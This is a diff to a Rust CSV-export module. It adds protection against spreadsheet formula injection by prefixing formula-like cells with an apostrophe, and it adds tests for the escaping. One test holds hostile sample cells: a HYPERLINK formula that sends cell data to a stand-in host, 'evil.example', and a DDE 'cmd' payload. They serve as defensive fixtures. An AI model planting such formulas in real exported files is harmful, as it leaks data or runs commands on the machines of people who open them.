@@ -1,5 +1,9 @@
 //! Tables written out: CSV that Excel opens with its diacritics intact (UTF-8 with a BOM),
 //! and JSON; both read back by [`super::import`] into the same table.
+//!
+//! A text cell that a spreadsheet would run as a formula (`=HYPERLINK(…)`, `+cmd|…`,
+//! `@SUM(…)`, `-2+3`) is written with a leading `'`, which Excel and LibreOffice read as
+//! "this is text" and do not show; importing the file takes that one `'` away again.
 
 use super::csv::write_row;
 use super::record::{self, DecodeError, TableRecord};
@@ -18,6 +22,37 @@ pub const CSV_HEADER: [&str; 10] = [
     "Ghi chú",
     "Nhóm xã",
 ];
+
+/// Whether a spreadsheet would take `text` for a formula: it starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return (OWASP's list for CSV injection).
+fn reads_as_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Whether [`text_cell`] adds a `'`: the text, after any `'` it already starts with, would
+/// be read as a formula. (Counting the `'`s it has makes the way back exact: a name that
+/// itself starts with `'=` gets one more.)
+fn needs_mark(text: &str) -> bool {
+    reads_as_formula(text.trim_start_matches('\''))
+}
+
+/// A text cell as written to CSV: with a leading `'` when a spreadsheet would otherwise
+/// run it. Cells the app writes as numbers (counts, rates, the commune group) never need it.
+pub fn text_cell(text: &str) -> String {
+    if needs_mark(text) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
+/// A cell as read back from CSV: the one `'` that [`text_cell`] added is taken away.
+pub fn read_text_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_mark(rest) => rest,
+        _ => cell,
+    }
+}
 
 fn rate_cell(unit: &Unit) -> String {
     match &unit.figures {
@@ -49,15 +84,15 @@ pub fn to_csv(units: &[Unit]) -> String {
             _ => Default::default(),
         };
         let cells = [
-            unit.name.clone(),
-            unit.group.clone(),
+            text_cell(&unit.name),
+            text_cell(&unit.group),
             unit.kind.slug().to_owned(),
-            unit.target.clone(),
+            text_cell(&unit.target),
             total,
             online,
             full,
             rate_cell(unit),
-            unit.note.clone(),
+            text_cell(&unit.note),
             unit.commune_group
                 .map(|g| g.to_string())
                 .unwrap_or_default(),
@@ -85,6 +120,7 @@ mod tests {
     use crate::core::counts::Counts;
     use crate::core::import::parse_table;
     use crate::core::percent::Percent;
+    use crate::core::text::clean_name;
     use crate::core::unit::UnitKind;
     use proptest::prelude::*;
 
@@ -112,11 +148,21 @@ mod tests {
         "[\\PC&&[^\\t]]{0,20}".prop_map(|s| s.trim().to_owned())
     }
 
+    /// Names as the import leaves them (one line, no direction controls, trimmed), among
+    /// them ones a spreadsheet would run and ones that already start with `'`.
+    fn name() -> impl Strategy<Value = String> {
+        (
+            "|'|''|[=+\\-@]|'[=+\\-@]|''[=+@]",
+            "[A-Za-zÀ-ỹ(\"][\\PC&&[^\\t]]{0,20}",
+        )
+            .prop_map(|(mark, rest)| clean_name(&format!("{mark}{rest}")).trim().to_owned())
+    }
+
     fn unit() -> impl Strategy<Value = Unit> {
         (
             (
-                "[A-Za-zÀ-ỹ][\\PC&&[^\\t]]{0,20}".prop_map(|s| s.trim().to_owned()),
-                text(),
+                name(),
+                text().prop_map(|g| clean_name(&g).trim().to_owned()),
                 prop::sample::select(UnitKind::ALL.to_vec()),
                 prop::sample::select(vec!["", "ntm", "nang-cao", "kieu-mau", "xa-25"]),
                 figures(),
@@ -137,6 +183,50 @@ mod tests {
             )
     }
 
+    fn unit_named(name: &str) -> Unit {
+        Unit {
+            note: name.into(),
+            group: name.into(),
+            ..Unit::named(name)
+        }
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_get_a_quote_mark_and_lose_it_on_import() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "-2+3",
+            "'=1+1",
+        ];
+        let units: Vec<Unit> = hostile.iter().map(|n| unit_named(n)).collect();
+        let csv = to_csv(&units);
+        let rows = crate::core::csv::parse(&csv, ',');
+        for (row, name) in rows[1..].iter().zip(hostile) {
+            assert_eq!(row[0], format!("'{name}"));
+            assert_eq!(row[1], format!("'{name}"));
+            assert_eq!(row[8], format!("'{name}"));
+        }
+        assert_eq!(parse_table(&csv).units, units);
+        // Counts and rates are the app's numbers, written as they are.
+        let counted = Unit {
+            figures: Figures::Counts {
+                counts: Counts::new(Count::new(10).unwrap(), Count::new(4).unwrap(), None).unwrap(),
+            },
+            ..Unit::named("Xã A")
+        };
+        let line = to_csv(&[counted])
+            .lines()
+            .nth(1)
+            .unwrap_or_default()
+            .to_owned();
+        assert_eq!(line, "Xã A,,xa,,10,4,,\"40,00\",,");
+        assert_eq!(read_text_cell("'abc"), "'abc");
+        assert_eq!(read_text_cell("''=x"), "'=x");
+        assert_eq!(text_cell("'abc"), "'abc");
+    }
+
     proptest! {
         #[test]
         fn csv_export_then_import_gives_the_same_table(units in prop::collection::vec(unit(), 0..12)) {
@@ -146,6 +236,16 @@ mod tests {
             let back = parse_table(&csv);
             prop_assert_eq!(back.errors, vec![]);
             prop_assert_eq!(back.units, units);
+        }
+
+        #[test]
+        fn no_exported_text_cell_reads_as_a_formula(units in prop::collection::vec(unit(), 1..8)) {
+            let csv = to_csv(&units);
+            for row in crate::core::csv::parse(&csv, ',').iter().skip(1) {
+                for (i, cell) in row.iter().enumerate() {
+                    prop_assert!(!reads_as_formula(cell), "column {} {:?}", i, cell);
+                }
+            }
         }
 
         #[test]
